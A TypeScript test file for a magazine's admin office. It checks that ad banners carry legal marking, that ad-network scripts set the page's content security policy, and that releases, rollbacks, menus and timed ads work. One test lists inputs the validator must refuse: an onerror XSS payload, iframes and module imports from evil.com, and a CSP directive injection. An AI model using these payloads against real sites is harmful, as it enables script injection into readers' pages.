// Advertising in the office: places are gathered and go out with the rest of the front page; pages and their policy follow at once and at the
// minute; hosts and code that would open pages to strangers are refused; the operator's file is taken over once.
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { listAds, previewAds, type AdPlaceWanted } from '#contract/front-ads.ts'
import * as calls from '#contract/front.ts'
import { getMenuTrees, replaceMenuTrees, type MenuTrees } from '#contract/office/menus.ts'
import { getMenus } from '#contract/content.ts'
import { listScripts } from '#contract/widgets.ts'
import { enterInvited, type Entered } from '#services/auth/office/testing.ts'
import { bringAdvertisingFile } from '#services/widgets/ads/bring-file.ts'
import { openWidgets } from '#services/widgets/widgets.ts'
import type { TestApp } from './app.ts'
import { openFrontApp } from './front-app.ts'
import { send } from './text-editors.ts'

let app: TestApp
let anna: Entered
beforeAll(async () => {
  ;({ app, anna } = await openFrontApp())
})
afterAll(() => app?.close())
beforeEach(() =>
  app.context.db.sql.query(
    'truncate widgets.front_ads, widgets.front_origin, widgets.front_change, widgets.front_release',
  ),
)

type Ad = AdPlaceWanted['ads'][number]
const headers = () => anna.browser.headers()
const always = { isOff: false, from: null, until: null }
const tea = (changes: object = {}): Ad => ({
  kind: 'banner',
  isOwn: false,
  advertiser: 'ООО «Чайная»',
  inn: '7707083893',
  erid: '2VtzqwTestErid',
  url: 'https://chai.test/',
  text: 'Чай с чабрецом',
  image: null,
  ...always,
  ...changes,
})
const net = (changes: object = {}): Ad => ({
  kind: 'network',
  name: 'Сеть',
  code: '<div id="seti_1"></div><script src="https://cdn.seti.com/a.js" async></script><script>go(1)</script>',
  hosts: ['*.seti.com'],
  ...always,
  ...changes,
})
const side = (ads: Ad[], changes: Partial<AdPlaceWanted> = {}): AdPlaceWanted => ({
  kind: 'ads',
  place: 'sidebar',
  height: 250,
  isOff: false,
  isKept: false,
  rooms: ['', 'recipes-'],
  show: [],
  hide: [],
  ads,
  ...changes,
})
const change = (key: string, wanted: calls.FrontWanted | null, expected = 0, person = anna) =>
  send(app, calls.changeFront, person.browser.headers(), { body: { changes: [{ key, expected, wanted }] } as never })
const show = async () => {
  const { changes } = (await send(app, calls.getFront, headers(), {})).body
  return send(app, calls.showFront, headers(), {
    body: { changes: changes.map(({ key, version }) => ({ key, version })) },
  })
}
const read = () => app.ask(listAds, {})
const inMinutes = (minutes: number) => new Date(app.clock.now().getTime() + minutes * 60_000).toISOString()

test('a banner has its mark, a network its scripts and hosts; they go out together and come back with one press', async () => {
  expect((await change('ads:sidebar', side([tea(), net()]))).status).toBe(200)
  expect(await read()).toEqual({ places: [], origins: [] })
  const shown = await show()
  expect(await read()).toEqual({
    places: [
      {
        place: 'sidebar',
        height: 250,
        isKept: false,
        rooms: ['', 'recipes-'],
        show: [],
        hide: [],
        ads: [
          {
            kind: 'banner',
            label: 'Реклама. ООО «Чайная», ИНН\u00a07707083893, erid:\u00a02VtzqwTestErid',
            url: 'https://chai.test/',
            text: 'Чай с чабрецом',
            image: null,
          },
          {
            kind: 'network',
            id: expect.any(Number),
            container: 'seti_1',
            scripts: [{ src: 'https://cdn.seti.com/a.js' }, { code: 'go(1)' }],
          },
        ],
      },
    ],
    origins: ['https://cdn.seti.com', 'https://*.seti.com'],
  })
  const scriptsAt = async (path: string) => (await app.ask(listScripts, { query: { path } })).items
  expect((await scriptsAt('/')).map(({ data }) => data.parsed_content)).toMatchObject([
    [
      { type: 'external-script', attributes: { src: 'https://cdn.seti.com/a.js' } },
      { type: 'inline-script', attributes: { code: 'go(1)' } },
    ],
  ])
  expect(await scriptsAt('/health/')).toEqual([])
  await send(app, calls.returnFront, headers(), { params: { releaseId: shown.body.releaseId } })
  expect(await read()).toEqual({ places: [], origins: [] })
  expect(await scriptsAt('/')).toEqual([])
})

test.each([
  ['a whole zone', { hosts: ['*.ru'] }],
  ['a shared suffix', { hosts: ['*.com.ru'] }],
  ['the sites of everybody at a hoster', { hosts: ['*.github.io'] }],
  ['everything', { hosts: ['*'] }],
  ['another directive', { hosts: ["ya.ru; script-src 'unsafe-inline'"] }],
  ['a scheme', { hosts: ['data:'] }],
  ['an address of a machine', { hosts: ['127.0.0.1'] }],
  ['a name inside of the network', { hosts: ['localhost'] }],
  ['a port', { hosts: ['ya.ru:8080'] }],
  ['a script without https', { code: '<script src="http://cdn.seti.com/a.js"></script>' }],
  ['a script of an address of a machine', { code: '<script src="https://10.0.0.1/a.js"></script>' }],
  ['a handler', { code: '<img src=x onerror=alert(1)><script>go(1)</script>' }],
  ['a handler on a block', { code: '<div id="seti_1" onclick="x()"></div><script>go(1)</script>' }],
  ['a frame', { code: '<iframe src="https://evil.com"></iframe><script>go(1)</script>' }],
  ['a block with a name of ours', { code: '<div id="main"></div><script>go(1)</script>' }],
  ['a filled block', { code: '<div id="seti_1"><b>Купи</b></div><script>go(1)</script>' }],
  ['a module', { code: '<script type="module">import "https://evil.com/a.js"</script>' }],
  ['no script', { code: 'Купите чай' }],
])('a network that asks for %s is refused', async (_, changes) => {
  const reply = await change('ads:sidebar', side([net(changes)]))
  expect([reply.status, JSON.stringify(reply.body)]).toEqual([400, expect.stringContaining('Объявление 1: ')])
})

test.each([
  ['without erid', { erid: '' }],
  ['with an invented erid', { erid: 'номер' }],
  ['without INN', { inn: '' }],
  ['with an INN whose check digit is wrong', { inn: '7707083894' }],
  ['of a stranger as if of the magazine', { isOwn: true }],
  ['with neither words nor picture', { text: '' }],
])('a banner %s is refused, and waits switched off', async (_, changes) => {
  expect((await change('ads:sidebar', side([tea(changes)]))).status).toBe(400)
  expect((await change('ads:sidebar', side([tea({ ...changes, isOff: true })]))).status).toBe(200)
})

test('before saving the form says what the policy will open', async () => {
  const { body } = await send(app, previewAds, headers(), { body: { place: side([tea({ inn: '' }), net()]) } as never })
  expect(body).toEqual({
    problems: [{ at: 0, words: 'нет ИНН рекламодателя' }],
    origins: ['https://cdn.seti.com', 'https://*.seti.com'],
    inline: 1,
    policy: [
      expect.stringMatching(/^script-src 'self' https:\/\/cdn\.seti\.com https:\/\/\*\.seti\.com 'sha256-.*'$/),
      "connect-src 'self' https://cdn.seti.com https://*.seti.com",
    ],
  })
})

test('only an administrator changes advertising', async () => {
  for (const role of ['moderator', 'user'] as const) {
    const person = await enterInvited(app, anna, { email: `ads-${role}@delno.test`, name: role, role })
    const asked = await send(app, previewAds, person.browser.headers(), { body: { place: side([]) } as never })
    expect([(await change('ads:sidebar', side([]), 0, person)).status, asked.status]).toEqual([403, 403])
  }
})

test('the file of an operator is taken over once, and what the office has changed stays', async () => {
  const advertising = {
    places: {
      sidebar: { height: 90, ads: [{ advertiser: 'Дельно', erid: null, url: '/o-zhurnale', text: 'Мы', image: null }] },
    },
  }
  const bring = () =>
    bringAdvertisingFile(openWidgets({ ...app.context, config: { ...app.context.config, advertising } }))
  await bring()
  expect((await read()).places).toMatchObject([
    { place: 'sidebar', height: 90, isKept: true, ads: [{ label: 'Реклама. Дельно', url: '/o-zhurnale' }] },
  ])
  const { things } = (await send(app, calls.getFront, headers(), {})).body
  const thing = things.find(({ key }) => key === 'ads:sidebar')!
  await change('ads:sidebar', null, thing.version)
  await show()
  await bring()
  expect((await read()).places).toEqual([])
})

const item = (title: string, url: string) => ({ title, url, from: null, until: null, children: [] })
const menuOf = (name: 'header' | 'footer', tree: MenuTrees['header']): calls.FrontWanted => ({
  kind: 'menu',
  name,
  tree,
})
const headerNow = async () => (await app.ask(getMenus, {})).header.map(({ title }) => title)

test('a menu goes out with the rest, comes back with it, and what a colleague or an importer has changed is not lost', async () => {
  const before = await headerNow()
  const versionOf = async (key: string) =>
    (await send(app, calls.getFront, headers(), {})).body.things.find(thing => thing.key === key)!.version
  const header = await versionOf('menu:header')
  await change('menu:header', menuOf('header', [item('О журнале', '/o-zhurnale')]), header)
  await change('ads:sidebar', side([tea()]))
  expect(await headerNow()).toEqual(before)
  const gathered = (await send(app, calls.getFront, headers(), {})).body.changes
  expect(gathered.map(({ key }) => key).toSorted()).toEqual(['ads:sidebar', 'menu:header'])
  expect((await change('menu:header', menuOf('header', []), header)).status).toBe(409)
  const shown = await show()
  expect([await headerNow(), (await read()).places.length]).toEqual([['О журнале'], 1])
  const back = await send(app, calls.returnFront, headers(), { params: { releaseId: shown.body.releaseId } })
  expect(back.status).toBe(200)
  expect([await headerNow(), (await read()).places.length]).toEqual([before, 0])
  // A change of another menu meanwhile is in nobody's way; a change of the same one is.
  await change('menu:header', menuOf('header', [item('Журнал', '/o-zhurnale')]), await versionOf('menu:header'))
  const { trees, version } = await app.ask(getMenuTrees, {})
  const footer = [
    { ...item('Журнал', ''), children: [{ title: 'О нас', url: '/o-zhurnale', from: null, until: null }] },
  ]
  const next = await app.ask(replaceMenuTrees, { body: { trees: { ...trees, footer }, expected: version } })
  expect((await show()).status).toBe(200)
  expect([await headerNow(), (await app.ask(getMenus, {})).footer.length]).toEqual([['Журнал'], 1])
  await change('menu:header', menuOf('header', []), await versionOf('menu:header'))
  await app.ask(replaceMenuTrees, {
    body: { trees: { ...trees, footer, header: [item('Импорт', '/o-zhurnale')] }, expected: next.version + 1 },
  })
  expect([(await show()).status, await headerNow()]).toEqual([409, ['Импорт']])
  expect((await change('menu:header', null, await versionOf('menu:header'))).status).toBe(400)
})

test('a menu is not shown when the rest is refused', async () => {
  const before = await headerNow()
  const { things } = (await send(app, calls.getFront, headers(), {})).body
  const header = things.find(({ key }) => key === 'menu:header')!
  await change('menu:header', menuOf('header', [item('Пробный', '/o-zhurnale')]), header.version)
  await change('ads:sidebar', side([tea()]))
  // Readers get another place meanwhile, past the draft.
  await app.context.db.sql.query(
    `insert into widgets.front_ads (place, value) values ('sidebar', '${JSON.stringify(side([]))}')`,
  )
  expect([(await show()).status, await headerNow()]).toEqual([409, before])
})

// The last: the clock ends the sign-in.
test('an advertisement begins and ends at its minute, and pages hear of it', async () => {
  await change('ads:sidebar', side([tea({ from: inMinutes(5), until: inMinutes(10) })]))
  await show()
  await app.waitUntilIdle()
  const heard: string[][] = []
  app.context.events.on('widgets.changed', ({ tags }) => void heard.push(tags))
  const pass = async (minutes: number) => {
    heard.length = 0
    app.clock.advance(minutes * 60_000)
    // The timer looks again at once instead of within fifteen seconds.
    await app.context.db
      .of('widgets')
      .inTransaction(trx => app.context.events.announce(trx, 'widgets.changed', { slots: [], tags: [] }))
    await expect.poll(() => heard.flat()).toContain('advertising')
  }
  const count = async () => (await read()).places[0]!.ads.length
  expect(await count()).toBe(0)
  await pass(5)
  expect(await count()).toBe(1)
  await pass(5)
  expect(await count()).toBe(0)
})
